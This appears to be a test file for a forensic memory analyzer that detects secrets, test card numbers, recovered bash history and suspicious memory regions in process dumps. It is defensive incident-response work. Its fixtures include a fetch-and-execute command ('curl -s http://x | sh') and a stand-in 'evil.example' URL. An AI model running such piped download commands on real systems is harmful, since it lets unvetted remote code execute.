import { describe, expect, it } from 'vitest';
import memoryAnalyzer from '../../../../src/main/analyze/analyzers/memory';
import { memoryCandidates } from '../../../../src/main/analyze/memory/candidates';
import { cardsIn, luhn } from '../../../../src/main/analyze/memory/cards';
import { openMemory } from '../../../../src/main/analyze/memory/open';
import { mayBeBash, typedCommands } from '../../../../src/main/analyze/memory/shell-history';
import { parseRows } from '../../../../src/main/analyze/memory/volatility';
import { analyze, byRule, caseOf } from '../kit';
import { checkpoint, core, HEAP, memoryOf, page } from './kit';

describe('candidates', () => {
  const found = async (text: string | Buffer) => {
    const memory = memoryOf([{ address: 0n, bytes: Buffer.from(text) }]);
    const { candidates } = await memoryCandidates(memory, { limit: 100 });
    return candidates.map(({ kind, what, value, address, count }) => [kind, what, value, Number(address), count]);
  };
  const key = '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\nBBBB\n-----END OPENSSH PRIVATE KEY-----';

  it('are told with kind, value and address', async () => {
    expect(await found(`\0${key}\0`)).toEqual([['private key', 'OPENSSH PRIVATE KEY', key, 1, 1]]);
    expect(await found('x AKIAABCDEFGHIJKLMNOP y AKIAABCDEFGHIJKLMNOP')).toEqual([
      ['token', 'AWS access key id', 'AKIAABCDEFGHIJKLMNOP', 2, 2],
    ]);
    expect(await found('\0DB_PASSWORD=hunter2hunter2\0')).toEqual([
      ['password', 'DB_PASSWORD', 'hunter2hunter2', 13, 1],
    ]);
    expect(await found('\0https://evil.example/x?y\0')).toEqual([['URL', 'URL', 'https://evil.example/x?y', 1, 1]]);
    expect(await found(Buffer.from('\u0001token=abcdefgh', 'utf16le'))).toEqual([
      ['password', 'token', 'abcdefgh', 14, 1],
    ]);
  });

  it('are not what only looks a little like it', async () => {
    expect(
      await found('AKIA123 password=$VAR token=/run/secrets/x ghp_short eyJ.x.y :// -----BEGIN CERTIFICATE-----'),
    ).toEqual([]);
  });

  it('count card numbers by their check digit and their issuer', () => {
    const cards = (text: string) => [...cardsIn(Buffer.from(text), 0, text.length)].map(({ value }) => value);
    expect(cards('pan=4111 1111 1111 1111; 5500-0000-0000-0004 378282246310005')).toEqual([
      '4111111111111111',
      '5500000000000004',
      '378282246310005',
    ]);
    expect(
      cards('4111111111111112 94111111111111111 41111111111111112345 0x4111111111111111 id4111111111111111'),
    ).toEqual([]);
    expect(cards('4444444444444444 1234567812345670 4111  1111 1111 1111')).toEqual([]);
    expect(luhn('')).toBe(false);
  });
});

describe('commands typed into bash', () => {
  /** As readline keeps them: line, time stamp, data. */
  function heap(): Buffer {
    const bytes = Buffer.alloc(4096);
    const base = 0x5555_0000_0000n;
    bytes.write('curl -s http://x | sh\0', 0x100);
    bytes.write('#1764064800\0', 0x200);
    bytes.writeBigUInt64LE(base + 0x100n, 0x300);
    bytes.writeBigUInt64LE(base + 0x200n, 0x308);
    // a time stamp that no entry points to, and an entry whose line is not there
    bytes.write('#1764064801\0', 0x400);
    bytes.write('#1764064802\0', 0x500);
    bytes.writeBigUInt64LE(0x7777_0000_0000n, 0x600);
    bytes.writeBigUInt64LE(base + 0x500n, 0x608);
    return bytes;
  }

  it('are read with time and address, and none is made up', async () => {
    const memory = memoryOf([{ address: 0x5555_0000_0000n, bytes: heap() }]);
    const [space] = memory.layout.spaces;
    if (!space) throw new Error('no space');
    expect(mayBeBash(space)).toBe(true);
    expect(await typedCommands(memory, space)).toEqual([
      {
        space,
        address: 0x5555_0000_0100n,
        entry: 0x5555_0000_0300n,
        time: '2025-11-25T10:00:00.000Z',
        command: 'curl -s http://x | sh',
      },
    ]);
  });
});

describe('a core', () => {
  it('has its process, regions by name, and bytes by address', async () => {
    const content = core('bash', [
      { address: 0x1000n, bytes: page('a'), perms: 'r-xp', path: '/tmp/x (deleted)' },
      { address: 0x5000n, bytes: page('b'), perms: 'rw-p', path: '[heap]' },
    ]);
    const { dir, records } = await caseOf([{ collector: 'process.memory', kind: 'binary', content }]);
    const open = records[0] && (await openMemory(dir, records[0]));
    expect(open?.layout.faults).toEqual([]);
    expect(open?.layout.spaces[0]).toMatchObject({
      id: 'pid:4242',
      pid: 4242,
      ppid: 1,
      comm: 'bash',
      arguments: ['bash', '-i'],
    });
    expect(open?.layout.spaces[0]?.regions).toMatchObject([
      { start: 0x1000n, perms: 'r-xp', kind: 'file', name: '/tmp/x', deleted: true },
      { start: 0x5000n, perms: 'rw-p', kind: 'heap', name: '[heap]', deleted: false },
    ]);
    await open?.close();
  });
});

describe('findings', () => {
  const elf = Buffer.from('\x7fELF\x02\x01\x01', 'latin1');

  it('name memory that can be written and executed, a program without a file, and a deleted one', async () => {
    const content = core('worker', [
      { address: 0x1000n, bytes: page('code'), perms: 'r-xp', path: '/tmp/x (deleted)' },
      { address: 0x5000n, bytes: page(elf), perms: 'rwxp' },
    ]);
    const result = await analyze([{ collector: 'process.memory', kind: 'binary', content }], [memoryAnalyzer]);
    expect(result.unreadable).toEqual([]);
    expect(byRule(result, 'memory.writable-executable')[0]?.claim).toContain('0x5000–0x6000 rwxp');
    expect(byRule(result, 'memory.program-without-file')[0]).toMatchObject({ severity: 'high' });
    expect(byRule(result, 'memory.runs-deleted-file')[0]?.claim).toContain('/tmp/x');
  });

  it('finds nothing in memory of an ordinary process', async () => {
    const content = core('web', [
      { address: 0x1000n, bytes: page(elf), perms: 'r-xp', path: '/usr/bin/web' },
      { address: 0x5000n, bytes: page('heap'), perms: 'rw-p', path: '[heap]' },
    ]);
    const result = await analyze([{ collector: 'process.memory', kind: 'binary', content }], [memoryAnalyzer]);
    expect(result.findings).toEqual([]);
  });

  it('cite the content of a deleted file, and weigh a program in data less', async () => {
    const given = {
      collector: 'container.checkpoint',
      kind: 'tar' as const,
      content: checkpoint({ heap: [page(elf)], ghost: Buffer.from('gone') }),
    };
    const result = await analyze([given], [memoryAnalyzer]);
    expect(byRule(result, 'memory.deleted-open-file')).toHaveLength(1);
    expect(byRule(result, 'memory.program-without-file')[0]).toMatchObject({ severity: 'low' });
    expect(byRule(result, 'memory.program-without-file')[0]?.claim).toContain(`0x${HEAP.toString(16)}`);
  });

  it('makes none from an exhibit that is not what was collected', async () => {
    const content = core('x', [{ address: 0x5000n, bytes: page(elf), perms: 'rwxp' }]);
    const given = { collector: 'process.memory', kind: 'binary' as const, content, sha256: '0'.repeat(64) };
    const result = await analyze([given], [memoryAnalyzer]);
    expect(result.findings).toEqual([]);
    expect(result.unreadable[0]?.reason).toContain('SHA-256 differs');
  });
});

describe('output of Volatility', () => {
  it('becomes rows, children behind their parent', () => {
    const tree = [
      { PID: 1, __children: [{ PID: 2, __children: [] }] },
      { PID: 3, Flags: ['a'], __children: [] },
    ];
    expect(parseRows(`noise\n${JSON.stringify(tree)}`)).toEqual([
      { PID: 1, Depth: 0 },
      { PID: 2, Depth: 1 },
      { PID: 3, Flags: '["a"]' },
    ]);
    expect(parseRows('[]')).toEqual([]);
    for (const broken of ['', 'no json', '[1]', '{']) expect(parseRows(broken)).toBeUndefined();
  });
});
